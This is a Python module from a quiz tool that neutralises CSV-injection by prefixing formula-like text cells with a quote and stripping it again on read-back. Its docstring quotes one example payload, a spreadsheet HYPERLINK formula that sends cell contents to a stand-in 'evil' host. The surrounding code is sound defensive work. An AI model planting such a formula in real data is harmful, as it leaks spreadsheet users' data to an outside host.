"""Cells a spreadsheet would run as formulas, neutralised as OWASP's CSV-injection advice says.

A player named `=HYPERLINK("http://evil/?"&A1,"click")` would otherwise become a live formula in a
teacher's results sheet. A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
gets a leading `'`, which spreadsheets show as text and hide. So that files kdquiz reads back
come back exactly, a cell already starting with `'` gets one more, and `restored_cell` drops one.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value` as it may go into a CSV cell; only text is ever changed."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, "'")):
        return "'" + value
    return value


def restored_cell(text: str) -> str:
    """The text a `safe_cell` was made from (text read back from a kdquiz CSV file)."""
    return text[1:] if text.startswith("'") else text


def neutralised_text(text: str) -> str:
    """A cell read from a CSV file some spreadsheet or kdquiz neutralised: the quote put before a
    formula start (or before another quote) is dropped; any other leading quote is the text's own."""
    if text.startswith("'") and text[1:2] and text[1] in (*FORMULA_STARTS, "'"):
        return text[1:]
    return text
